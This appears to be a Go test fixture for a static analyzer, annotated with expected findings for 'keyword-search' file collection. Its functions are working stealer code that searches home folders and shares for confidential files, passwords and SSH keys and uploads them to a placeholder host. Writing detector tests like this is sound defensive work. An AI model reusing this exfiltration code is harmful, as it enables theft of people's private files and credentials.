// Annotated samples for the remote-collection pack (Go): a document stealer that looks for
// sensitive words in file names and contents before uploading, next to a scanner that
// matches malware signatures.
package main

import (
	"bytes"
	"io/fs"
	"io/ioutil"
	"log"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

const drop = "https://files.example-share.net/u"

type Stealer struct {
	conn net.Conn
}

// grepFile reads a document and sends it when it looks confidential.
func (s *Stealer) grepFile(path string) {
	data, err := os.ReadFile(path)
	if err != nil {
		return
	}
	text := strings.ToLower(string(data))
	if strings.Contains(text, "confidential") || strings.Contains(text, "top secret") { // want "remote-collection/keyword-search"
		http.Post(drop, "application/octet-stream", bytes.NewReader(data))
	}
}

// names are matched in a WalkDir callback; what matches is sent at the end.
var hits []string

func match(path string, d fs.DirEntry, err error) error {
	if err != nil || d.IsDir() {
		return nil
	}
	name := strings.ToLower(d.Name())
	if strings.Contains(name, "password") || strings.HasSuffix(name, ".kdbx") { // want "remote-collection/keyword-search"
		hits = append(hits, path)
	}
	return nil
}

func (s *Stealer) sweep(root string) {
	filepath.WalkDir(root, match)
	for _, h := range hits {
		s.conn.Write([]byte(h + "\n"))
	}
}

// pathMatch looks at the whole path handed to a Walk callback.
var queue []string

func pathMatch(path string, info os.FileInfo, err error) error {
	if err == nil && strings.Contains(strings.ToLower(path), `\restricted\`) { // want "remote-collection/keyword-search"
		queue = append(queue, path)
	}
	return nil
}

func (s *Stealer) shares(root string) {
	filepath.Walk(root, pathMatch)
	for _, p := range queue {
		if data, err := os.ReadFile(p); err == nil {
			http.Post(drop+"?n="+filepath.Base(p), "application/octet-stream", bytes.NewReader(data))
		}
	}
}

// listing compares directory entries from os.ReadDir with a switch.
func (s *Stealer) listing(dir string) {
	entries, _ := ioutil.ReadDir(dir)
	for _, e := range entries {
		switch strings.ToLower(e.Name()) {
		case "passwords.txt", "credentials.xlsx", "id_rsa": // want "remote-collection/keyword-search"
			data, _ := os.ReadFile(filepath.Join(dir, e.Name()))
			s.conn.Write(data)
		}
	}
}

// keywordList keeps its words in a slice and compares through the range variable.
var keywords = []string{"secret", "confidential", "proprietary", "geheim"}

func (s *Stealer) keywordList(path string) {
	data, err := os.ReadFile(path)
	if err != nil {
		return
	}
	for _, kw := range keywords {
		if bytes.Contains(bytes.ToLower(data), []byte(kw)) { // todo "remote-collection/keyword-search"
			s.conn.Write(data)
			return
		}
	}
}

// signatures is how an antivirus looks at a file: byte patterns, not words.
func (s *Stealer) scanSample(path string) {
	data, err := os.ReadFile(path)
	if err != nil {
		return
	}
	if bytes.HasPrefix(data, []byte("MZ")) && bytes.Contains(data, []byte("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR")) { // ok: signature bytes are not sensitive keywords
		s.conn.Write(data)
	}
}

// localAudit looks for passwords in a config file but only logs a warning.
func localAudit() {
	cfg, err := os.ReadFile("/etc/agent/agent.conf")
	if err != nil {
		return
	}
	if strings.Contains(string(cfg), "password=") { // ok: the file is never uploaded
		log.Println("warning: plaintext password in agent.conf")
	}
}

// serverWords compares words the server sent, not anything read from the disk.
func (s *Stealer) serverWords() {
	buf := make([]byte, 256)
	n, _ := s.conn.Read(buf)
	if strings.Contains(string(buf[:n]), "secret") { // ok: network input, not collected files
		s.conn.Write([]byte("ack\n"))
	}
}

// extension filter on a Walk callback that is a closure.
func (s *Stealer) closureWalk(root string) {
	filepath.Walk(root, func(p string, info os.FileInfo, err error) error {
		if err == nil && strings.Contains(strings.ToLower(info.Name()), "confidential") { // want "remote-collection/keyword-search"
			if data, err := os.ReadFile(p); err == nil {
				s.conn.Write(data)
			}
		}
		return nil
	})
}

func main() {
	conn, err := net.Dial("tcp", "203.0.113.15:443")
	if err != nil {
		return
	}
	s := &Stealer{conn: conn}
	home, _ := os.UserHomeDir()
	s.grepFile(filepath.Join(home, "Documents", "plan.docx"))
	s.sweep(home)
	s.shares(`\\fileserver\dept`)
	s.listing(filepath.Join(home, "Desktop"))
	s.keywordList(filepath.Join(home, "notes.txt"))
	s.scanSample(os.Args[1])
	localAudit()
	s.serverWords()
	s.closureWalk(home)
}
